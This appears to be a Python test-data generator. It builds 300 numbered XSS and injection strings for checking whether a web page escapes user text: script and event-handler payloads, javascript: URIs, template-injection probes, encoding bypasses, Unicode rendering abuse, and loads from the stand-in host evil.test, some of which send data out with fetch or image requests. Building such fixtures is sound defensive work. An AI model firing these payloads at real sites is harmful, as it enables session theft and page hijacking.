"""Texts that try to be more than text: 300 of them, from a small grammar, each with its number."""

from collections.abc import Iterator
from itertools import product

COUNT = 300

_DEEDS = (
    "window.ran=1",
    "alert(1)",
    "fetch(`//evil.test/{n}`)",
    "document.body.remove()",
    "location=`https://evil.test/{n}`",
    "new Image().src=`//evil.test/{n}`",
)
_TAGS = (
    "<script>{do}</script>",
    "<ScRiPt >{do}</sCrIpT>",
    "<img src=x onerror='{do}'>",
    "<svg onload='{do}'>",
    "<svg><animate onbegin='{do}' attributeName=x></svg>",
    "<math><mtext><style><img src=x onerror='{do}'></style></mtext></math>",
    "<iframe srcdoc='<script>{do}</script>'></iframe>",
    "<details open ontoggle='{do}'>",
    "<input autofocus onfocus='{do}'>",
    "<video><source onerror='{do}'></video>",
    "</textarea><script>{do}</script>",
    "</title></style></p></article></main><script>{do}</script>",
    "<noscript><p title='</noscript><img src=x onerror={do}>'>",
    "--><script>{do}</script><!--",
    "]]><script>{do}</script>",
    "<a href='javascript:{do}' style='position:fixed;inset:0'>x</a>",
    "<scr\0ipt>{do}</scr\0ipt>",
    "<scr\u200bipt>{do}</scr\u200bipt>",
    "＜script＞{do}＜/script＞",
    "&lt;script&gt;{do}&lt;/script&gt;",
    "&#60;script&#62;{do}&#60;/script&#62;",
    "%3Cscript%3E{do}%3C/script%3E",
    "\\u003cscript\\u003e{do}\\u003c/script\\u003e",
    "+ADw-script+AD4-{do}+ADw-/script+AD4-",
)
_ATTRIBUTES = (
    '" onmouseover="{do}" x="',
    "' autofocus tabindex=1 onfocus='{do}' x='",
    "\"><img src=x onerror='{do}'>",
    "` onerror={do} `",
    '" style="background:url(//evil.test/{n})',
)
_ADDRESSES = (
    "javascript:{do}",
    "JaVa\tScRiPt:{do}",
    "data:text/html,<script>{do}</script>",
    "[bấm vào đây](javascript:{do})",
)
_TEMPLATES = (
    "{{{{ {do} }}}}",
    "{{% for one in self.__class__.__mro__ %}}{do}{{% endfor %}}",
    "${{{do}}}",
    "<%= {do} %>",
    "#{{{do}}}",
    "[[{do}]]",
    "{{mã phiếu}} {{{do}}}",
)
# Without a deed.
_FETCHING = (
    "<base href='//evil.test/'>",
    "<meta http-equiv=refresh content='0;url=//evil.test/{n}'>",
    "<link rel=stylesheet href='//evil.test/{n}'>",
    "<style>@import '//evil.test/{n}';*{{display:none}}</style>",
    "<object data='//evil.test/{n}'></object><embed src='//evil.test/{n}'>",
    "<form action='//evil.test/{n}'><button autofocus>Gửi</button></form>",
    "![ảnh](https://evil.test/{n}.png)",
    "<https://evil.test/{n}>",
)
_SHAPES = (
    "W" * 2000,
    "m\u00a0" * 1000,
    "https://evil.test/" + "a" * 1900,
    "ệ" * 2000,
    "Z" + "\u0300\u0301\u0302\u0303\u0310\u0489" * 40 + "algo",
    "\u202eđược trả tiền rồi\u202c",
    "\u2067\u2067\u2067 không đóng lại",
    "\u200b\u200d\ufeff\u2060".join("nợ lương"),
    "שכר לא שולם 12:30",
    "\ufdfd" * 60,
    "👩‍👩‍👧‍👦" * 300,
    "\n" * 300 + "dưới cùng",
    "\t" * 400 + "bên phải",
    "ｎợ ｌươｎｇ " * 200,
    "\ud800 nửa chữ \udfff",
    "1" * 2000,
)


def texts() -> list[str]:
    """Each between its marks, `zz000` to `zz299`, by which a page shows that it has it."""
    return [f"zz{number:03} {text} zz{number:03}" for number, text in enumerate(_each())]


def _each() -> Iterator[str]:
    """Shapes and fetching ones in three turns, and with them every deed in every context."""
    contexts = (*_TAGS, *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES)
    doing = iter(product(_DEEDS, contexts))
    plain = (*_SHAPES, *_FETCHING)
    for number in range(COUNT):
        turn, place = divmod(number, 100)
        if place < len(plain):
            text = plain[place]
            yield (text + " " * turn).format(n=number) if text in _FETCHING else text + "." * turn
        else:
            deed, context = next(doing)
            yield context.format(do=deed.format(n=number), n=number)
